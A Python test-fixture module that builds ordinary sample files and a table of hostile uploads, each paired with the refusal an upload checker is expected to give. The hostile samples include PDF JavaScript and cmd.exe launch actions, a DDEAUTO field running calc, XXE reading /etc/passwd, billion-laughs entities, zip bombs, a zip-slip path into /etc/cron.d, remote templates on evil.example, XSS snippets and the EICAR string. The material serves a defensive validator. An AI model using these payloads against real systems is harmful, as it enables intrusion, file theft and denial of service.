"""Files for the checks of uploads, made from nothing: ordinary ones, and ones meant to hurt."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import openpyxl
from PIL import Image

from campaigns.files.refusals import Refusal

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE" + b"!$H+H*"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"
_XML = '<?xml version="1.0"?>'
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


# --- ordinary files ---------------------------------------------------------------------------------------


def pdf(extra: bytes = b"", *, tail: bytes = b"") -> bytes:
    """A PDF of one empty page; ``extra`` are further objects, ``tail`` what follows its end."""
    body = (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
        b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>\nendobj\n" + extra
    )
    return (
        body
        + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Root 1 0 R/Size 4>>\nstartxref\n%d\n%%%%EOF\n" % len(body)
        + tail
    )


def object_stream(objects: bytes, *, filters: bytes = b"/FlateDecode") -> bytes:
    """Objects packed in a stream, as new PDF writers do."""
    packed = zlib.compress(objects)
    head = b"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter%s/Length %d>>\nstream\n" % (filters, len(packed))
    return head + packed + b"\nendstream\nendobj\n"


def png(width: int = 12, height: int = 8, *, save: dict[str, object] | None = None) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (150, 30, 30)).save(out, "PNG", **(save or {}))
    return out.getvalue()


def jpg(width: int = 12, height: int = 8, *, exif: Image.Exif | None = None) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (150, 30, 30)).save(out, "JPEG", **({"exif": exif} if exif else {}))
    return out.getvalue()


def photo_with_place() -> bytes:
    """A photo that says where and with which camera it was taken, and which way is up."""
    exif = Image.Exif()
    exif[0x010F] = "CANARY-CAMERA"
    exif[0x0112] = 6  # turned by 90 degrees
    exif.get_ifd(0x8825)[1], exif.get_ifd(0x8825)[2] = "N", (20.0, 51.0, 30.0)
    return jpg(40, 20, exif=exif)


def docx(parts: dict[str, bytes | str] | None = None, *, main: str = WORD_MAIN, body: str = "") -> bytes:
    """A Word document; ``parts`` are added to or replace its own."""
    own: dict[str, bytes | str] = {
        "[Content_Types].xml": f'{_XML}<Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
        "_rels/.rels": relations(("officeDocument", "word/document.xml", False)),
        "word/document.xml": f"{_XML}<w:document {_W}><w:body><w:p><w:r><w:t>Báo cáo</w:t></w:r></w:p>{body}"
        "</w:body></w:document>",
    }
    return package({**own, **(parts or {})})


def relations(*rows: tuple[str, str, bool]) -> str:
    inner = "".join(
        f'<Relationship Id="r{number}" Type="{_RELATIONS}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if outside else "/>")
        for number, (kind, target, outside) in enumerate(rows)
    )
    return f'{_XML}<Relationships xmlns="{_LINKS}">{inner}</Relationships>'


def package(parts: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def xlsx() -> bytes:
    """A workbook as openpyxl writes it, with a link to a web page."""
    book = openpyxl.Workbook()
    book.active["A1"], book.active["A2"] = "Thu ngân sách", 1234.5
    book.active["A3"] = "Cổng"
    book.active["A3"].hyperlink = "https://example.gov.vn/"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- files meant to hurt ----------------------------------------------------------------------------------


def _with_entry(name: str = "", **columns: int) -> bytes:
    """A document with one strange entry in its directory."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name or "word/media/image1.png")
        for column, value in columns.items():
            setattr(info, column, value)
        archive.writestr(info, png())
    return out.getvalue()


def _lying_size() -> bytes:
    """The directory says 10 bytes; unpacking yields 300 kB."""
    content = bytearray(docx({"word/media/image1.png": b"\0" * 300_000}))
    for signature, offset, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = -1
        while (start := content.find(signature, start + 1)) >= 0:
            if content[start + name_at :].startswith(b"word/media/image1.png"):
                struct.pack_into("<I", content, start + offset, 10)
    return bytes(content)


def _swapped_name() -> bytes:
    """The local header names another file than the directory."""
    content = docx({"word/media/image1.png": png()})
    return content.replace(b"word/media/image1.png", b"word/media/macro1.exe", 1)


def _many_entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(2_500):
            archive.writestr(f"word/{number}.xml", b"<a/>")
    return out.getvalue()


def _bomb() -> bytes:
    """Some 300 kB that unpack to 300 MB."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w") as part,
    ):
        for _ in range(300):
            part.write(b" " * 1024 * 1024)
    return out.getvalue()


def _dense_bomb() -> bytes:
    """100 MB, under the total, but packed a thousandfold."""
    return docx({"word/media/image1.bmp": b"\0" * 100 * 1024 * 1024})


def _flood() -> bytes:
    """The head of a PNG of 50 000 × 50 000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    size = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


_LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
_XXE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
_HTML = b"<!doctype html><html><script>alert(1)</script></html>"
_DOC_RELS = "word/_rels/document.xml.rels"

#: name as sent, content, reason. Contents are made when asked for: some are large.
HOSTILE: dict[str, tuple[str, Callable[[], bytes], Refusal]] = {
    "empty": ("rong.pdf", lambda: b"", Refusal.EMPTY),
    "too large": ("to.pdf", lambda: b"%PDF-1.7" + b"\0" * (20 * 1024 * 1024), Refusal.TOO_LARGE),
    "html": ("a.html", lambda: _HTML, Refusal.NOT_ALLOWED),
    "html called pdf": ("a.pdf", lambda: _HTML, Refusal.NOT_ALLOWED),
    "svg": ("a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', Refusal.NOT_ALLOWED),
    "svg called png": ("a.png", lambda: b'<?xml version="1.0"?><svg/>', Refusal.NOT_ALLOWED),
    "xml": ("a.xml", lambda: b'<?xml version="1.0"?><a/>', Refusal.NOT_ALLOWED),
    "plain text": ("a.txt", lambda: b"xin chao", Refusal.NOT_ALLOWED),
    "windows program": ("a.exe", lambda: b"MZ\x90\0" + b"\0" * 200, Refusal.NOT_ALLOWED),
    "program called jpg": ("a.jpg", lambda: b"\x7fELF" + b"\0" * 200, Refusal.NOT_ALLOWED),
    "gif": ("a.gif", lambda: b"GIF89a" + b"\0" * 50, Refusal.NOT_ALLOWED),
    "heic photo": ("a.heic", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 50, Refusal.NOT_ALLOWED),
    "plain zip": ("a.zip", lambda: package({"a.txt": "xin chào"}), Refusal.NOT_ALLOWED),
    "zip called docx": ("a.docx", lambda: package({"a.txt": "xin chào"}), Refusal.NOT_ALLOWED),
    "old word": ("a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Refusal.OLD_OFFICE),
    "encrypted docx": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Refusal.OLD_OFFICE),
    "test virus": ("a.pdf", lambda: pdf(b"% " + EICAR + b"\n"), Refusal.TEST_VIRUS),
    "pdf named exe": ("bao-cao.pdf.exe", pdf, Refusal.WRONG_EXTENSION),
    "pdf named with a turned ending": ("bao-cao\u202efdp.exe", pdf, Refusal.WRONG_EXTENSION),
    "pdf named html": ("bao-cao.html", pdf, Refusal.WRONG_EXTENSION),
    "docx named xlsx": ("bao-cao.xlsx", docx, Refusal.WRONG_EXTENSION),
    "png named pdf": ("anh.pdf", png, Refusal.WRONG_EXTENSION),
    "pdf that stops": ("a.pdf", lambda: pdf()[:-30], Refusal.DAMAGED),
    "pdf head only": ("a.pdf", lambda: b"%PDF-1.7\n", Refusal.DAMAGED),
    "pdf behind other bytes": ("a.pdf", lambda: b"GIF89a" + pdf(), Refusal.NOT_ALLOWED),
    "pdf with a page behind it": ("a.pdf", lambda: pdf(tail=_HTML), Refusal.DISGUISED),
    "pdf with a page in a comment": ("a.pdf", lambda: pdf(b"% <script>alert(1)</script>\n"), Refusal.DISGUISED),
    "pdf with bytes behind it": ("a.pdf", lambda: pdf(tail=b"\x01\x02\x03"), Refusal.DISGUISED),
    "pdf and zip": ("a.pdf", lambda: pdf(tail=package({"a.txt": "x"})), Refusal.DISGUISED),
    "pdf with a script": (
        "a.pdf",
        lambda: pdf(b"4 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"),
        Refusal.ACTIVE_PDF,
    ),
    "pdf with a hidden script": (
        "a.pdf",
        lambda: pdf(b"4 0 obj\n<</S/J#61vaScr#69pt/JS(x)>>\nendobj\n"),
        Refusal.ACTIVE_PDF,
    ),
    "pdf with a packed script": (
        "a.pdf",
        lambda: pdf(object_stream(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")),
        Refusal.ACTIVE_PDF,
    ),
    "pdf with objects in a strange filter": (
        "a.pdf",
        lambda: pdf(object_stream(b"5 0 <<>>", filters=b"[/ASCIIHexDecode/FlateDecode]")),
        Refusal.ACTIVE_PDF,
    ),
    "pdf that starts a program": (
        "a.pdf",
        lambda: pdf(b"4 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"),
        Refusal.ACTIVE_PDF,
    ),
    "pdf with a file inside": (
        "a.pdf",
        lambda: pdf(b"4 0 obj\n<</EmbeddedFiles 5 0 R>>\nendobj\n"),
        Refusal.ACTIVE_PDF,
    ),
    "pdf with a form program": ("a.pdf", lambda: pdf(b"4 0 obj\n<</XFA 5 0 R>>\nendobj\n"), Refusal.ACTIVE_PDF),
    "pdf with a password": ("a.pdf", lambda: pdf(b"trailer\n<</Encrypt 9 0 R>>\n"), Refusal.PROTECTED),
    "pdf with a bomb": ("a.pdf", lambda: pdf(object_stream(b"\0" * 80 * 1024 * 1024)), Refusal.UNPACKS_TOO_LARGE),
    "png and page": ("a.png", lambda: png() + _HTML, Refusal.DISGUISED),
    "jpg and page": ("a.jpg", lambda: jpg() + b"<script>alert(1)</script>", Refusal.DISGUISED),
    "jpg and zip": ("a.jpg", lambda: jpg() + package({"a.txt": "x"}), Refusal.DISGUISED),
    "docm": (
        "a.docm",
        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Refusal.MACRO,
    ),
    "docm called docx": (
        "a.docx",
        lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Refusal.MACRO,
    ),
    "docx with vbaProject": ("a.docx", lambda: docx({"word/vbaProject.bin": b"x"}), Refusal.MACRO),
    "xlsx with an old macro sheet": (
        "a.xlsx",
        lambda: docx({"xl/macrosheets/sheet1.xml": "<a/>"}, main=EXCEL_MAIN),
        Refusal.MACRO,
    ),
    "docx with activex": ("a.docx", lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), Refusal.EMBEDDED),
    "docx with an object": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), Refusal.EMBEDDED),
    "docx with a renamed object": (
        "a.docx",
        lambda: docx({"word/printerSettings1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        Refusal.EMBEDDED,
    ),
    "docx with a program": ("a.docx", lambda: docx({"word/media/image1.png": b"MZ\x90\0"}), Refusal.EMBEDDED),
    "docx with a script": ("a.docx", lambda: docx({"word/a.js": b"x"}), Refusal.EMBEDDED),
    "docx with a page": ("a.docx", lambda: docx({"word/afchunk.html": _HTML}), Refusal.EMBEDDED),
    "docx with a zip": ("a.docx", lambda: docx({"word/media/image1.png": package({"a": "b"})}), Refusal.EMBEDDED),
    "docx in docx in docx": (
        "a.docx",
        lambda: docx({"word/embeddings/a.docx": docx({"word/embeddings/b.docx": docx()})}),
        Refusal.EMBEDDED,
    ),
    "docx with another template": (
        "a.docx",
        lambda: docx({_DOC_RELS: relations(("attachedTemplate", "http://evil.example/t.dotm", True))}),
        Refusal.LINKED,
    ),
    "docx with a picture from outside": (
        "a.docx",
        lambda: docx({_DOC_RELS: relations(("image", "http://evil.example/x.png", True))}),
        Refusal.LINKED,
    ),
    "docx with a linked object": (
        "a.docx",
        lambda: docx({_DOC_RELS: relations(("oleObject", "file:///c:/x", True))}),
        Refusal.LINKED,
    ),
    "docx with a link to a file": (
        "a.docx",
        lambda: docx({_DOC_RELS: relations(("hyperlink", "file://server/share", True))}),
        Refusal.LINKED,
    ),
    "docx with a field that fetches": (
        "a.docx",
        lambda: docx(body='<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'),
        Refusal.LINKED,
    ),
    "docx with a split field": (
        "a.docx",
        lambda: docx(
            body="<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r></w:p>"
        ),
        Refusal.LINKED,
    ),
    "xlsx with another workbook": (
        "a.xlsx",
        lambda: docx({"xl/externalLinks/externalLink1.xml": "<a/>"}, main=EXCEL_MAIN),
        Refusal.LINKED,
    ),
    "docx with billion laughs": ("a.docx", lambda: docx({"word/settings.xml": _LAUGHS}), Refusal.ENTITIES),
    "docx with an outside entity": ("a.docx", lambda: docx({"word/settings.xml": _XXE}), Refusal.ENTITIES),
    "docx with entities in its types": ("a.docx", lambda: docx({"[Content_Types].xml": _XXE}), Refusal.ENTITIES),
    "docx with an svg with entities": ("a.docx", lambda: docx({"word/media/a.svg": _XXE}), Refusal.ENTITIES),
    "docx with broken xml": ("a.docx", lambda: docx({"word/settings.xml": "<a><b></a>"}), Refusal.DAMAGED),
    "docx cut short": ("a.docx", lambda: docx()[:-40], Refusal.DAMAGED),
    "docx with bytes before it": ("a.docx", lambda: b"PK\x03\x04junk" + docx(), Refusal.DISGUISED),
    "docx with bytes behind it": ("a.docx", lambda: docx() + _HTML, Refusal.DISGUISED),
    "zip slip": ("a.docx", lambda: _with_entry("../../etc/cron.d/a.xml"), Refusal.DISGUISED),
    "absolute path": ("a.docx", lambda: _with_entry("/etc/a.xml"), Refusal.DISGUISED),
    "drive letter": ("a.docx", lambda: _with_entry("c:/a.xml"), Refusal.DISGUISED),
    "symbolic link": ("a.docx", lambda: _with_entry(external_attr=0o120777 << 16), Refusal.DISGUISED),
    "two parts of one name": ("a.docx", lambda: _with_entry("WORD/document.xml"), Refusal.DISGUISED),
    "size that lies": ("a.docx", _lying_size, Refusal.UNPACKS_TOO_LARGE),
    "names that differ": ("a.docx", _swapped_name, Refusal.DISGUISED),
    "2 500 parts": ("a.docx", _many_entries, Refusal.TOO_MANY_PARTS),
    "zip bomb": ("a.xlsx", _bomb, Refusal.UNPACKS_TOO_LARGE),
    "dense bomb": ("a.docx", _dense_bomb, Refusal.UNPACKS_TOO_LARGE),
    "pixel flood": ("a.png", _flood, Refusal.TOO_MANY_PIXELS),
    "picture that stops": ("a.jpg", lambda: jpg(400, 400)[:-300], Refusal.DAMAGED),
    "picture of nothing": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 60, Refusal.DAMAGED),
}
